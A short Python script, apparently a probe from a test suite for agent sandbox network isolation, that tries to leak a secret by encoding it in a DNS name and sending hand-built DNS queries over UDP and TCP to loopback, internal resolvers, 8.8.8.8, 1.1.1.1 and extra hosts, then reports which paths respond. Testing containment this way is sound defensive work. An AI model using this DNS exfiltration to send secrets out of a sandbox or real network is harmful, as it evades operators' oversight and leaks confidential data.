"""Try to get a secret out through DNS: resolve SECRET.exfil.invalid, and send DNS queries for
it over UDP (and TCP) to the resolvers an agent could guess, including a port on the host's
loopback. Usage: dns_exfil.py SECRET PORT [HOST_ADDRESS...]"""

import socket
import struct
import sys

from _common import report

secret, port, extra = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
name = f"{secret}.exfil.invalid"


def query(qname):
    header = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in qname.split(".")) + b"\0"
    return header + labels + struct.pack(">HH", 1, 1)


def udp(host, to_port):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            sock.sendto(query(name), (host, to_port))
            sock.recvfrom(512)
            return "answered"
    except OSError as error:
        return f"failed: {error}"


def tcp(host, to_port):
    try:
        with socket.create_connection((host, to_port), timeout=1) as conn:
            data = query(name)
            conn.sendall(struct.pack(">H", len(data)) + data)
            return "sent"
    except OSError as error:
        return f"failed: {error}"


def resolve():
    try:
        return f"resolved: {socket.getaddrinfo(name, 80)}"
    except OSError as error:
        return f"failed: {error}"


targets = [
    ("127.0.0.1", port),
    ("127.0.0.53", 53),
    ("10.0.2.3", 53),
    ("8.8.8.8", 53),
    ("1.1.1.1", 53),
    *((host, port) for host in extra),
]
result = {"getaddrinfo": resolve()}
for host, to_port in targets:
    result[f"udp {host}:{to_port}"] = udp(host, to_port)
    result[f"tcp {host}:{to_port}"] = tcp(host, to_port)
report(result)
